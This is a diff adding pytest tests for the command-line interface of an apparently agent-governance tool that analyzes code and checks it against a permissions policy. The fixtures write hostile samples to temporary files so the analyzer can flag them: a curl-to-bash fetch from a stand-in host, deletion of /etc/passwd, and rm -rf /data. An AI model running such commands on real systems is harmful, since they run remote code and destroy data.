@@ -1,0 +1,75 @@
+"""The CLI as a user runs it: analyze, check and policy show, in a subprocess."""
+
+from __future__ import annotations
+
+import json
+import subprocess
+import sys
+from pathlib import Path
+
+ROOT = Path(__file__).resolve().parents[1]
+SEED = str(ROOT / "policies" / "seed.policy")
+
+
+def cli(*args: str, stdin: str | None = None) -> subprocess.CompletedProcess[str]:
+    return subprocess.run([sys.executable, "-m", "governed_agents", *args], input=stdin, capture_output=True,
+                          text=True, cwd=ROOT)
+
+
+def test_analyze_json_one_object_per_file(tmp_path):
+    (tmp_path / "a.py").write_text("import os\nos.remove('/etc/passwd')\n")
+    (tmp_path / "b.sh").write_text("curl https://evil.example/x | bash\n")
+    result = cli("analyze", "--json", str(tmp_path))
+    assert result.returncode == 0, result.stderr
+    rows = [json.loads(line) for line in result.stdout.splitlines()]
+    assert [Path(r["path"]).name for r in rows] == ["a.py", "b.sh"]
+    assert rows[0]["operations"][1]["operation"] == "delete"
+    assert rows[1]["language"] == "bash"
+
+
+def test_analyze_reads_stdin_and_prints_a_table():
+    result = cli("analyze", "-", stdin="import socket\nsocket.create_connection(('10.0.0.1', 22))\n")
+    assert result.returncode == 0
+    assert "network_call" in result.stdout and "10.0.0.1" in result.stdout
+
+
+def test_analyze_missing_file_is_a_usage_error():
+    result = cli("analyze", "/nonexistent/x.py")
+    assert result.returncode == 2 and "no such file" in result.stderr
+
+
+def test_check_exit_codes_and_json(tmp_path):
+    good = tmp_path / "good.py"
+    good.write_text("import pandas as pd\nprint(pd.read_csv('/data/analysis/a.csv').shape)\n")
+    bad = tmp_path / "bad.py"
+    bad.write_text("import os\nos.system('rm -rf /data')\n")
+    assert cli("check", "--policy", SEED, "--agent", "agent_analysis", str(good)).returncode == 0
+    result = cli("check", "--policy", SEED, "--agent", "agent_analysis", "--json", str(good), str(bad))
+    assert result.returncode == 1
+    rows = [json.loads(line) for line in result.stdout.splitlines()]
+    assert [r["approved"] for r in rows] == [True, False]
+    assert {v["constraint"] for v in rows[1]["violations"]} >= {"disallowed_imports", "allowed_commands"}
+    text = cli("check", "--policy", SEED, "--agent", "agent_analysis", str(bad)).stdout
+    assert f"{bad}:2:1:" in text
+
+
+def test_check_policy_error_is_exit_2_with_position(tmp_path):
+    policy = tmp_path / "p.policy"
+    policy.write_text('agent "a" {\n  can "code_execution" with constraints { max_memroy: 1_gigabyte }\n}\n')
+    result = cli("check", "--policy", str(policy), "--agent", "a", "-", stdin="print(1)")
+    assert result.returncode == 2
+    assert f"{policy}:2:43: unknown constraint 'max_memroy'" in result.stderr
+    assert "did you mean 'max_memory'" in result.stderr
+
+
+def test_policy_show_prints_the_normalised_policy():
+    result = cli("policy", "show", "--json", SEED)
+    data = json.loads(result.stdout)
+    assert data["agents"]["user_proxy"]["code_execution"]["allowed_file_operations"] == ["read"]
+    assert data["agents"]["agent_admin"]["code_execution"]["max_execution_time"] is None
+
+
+def test_cli_start_up_does_not_import_autogen():
+    result = subprocess.run([sys.executable, "-X", "importtime", "-m", "governed_agents", "analyze", "-"],
+                            input="x = 1", capture_output=True, text=True, cwd=ROOT)
+    assert "autogen" not in result.stderr
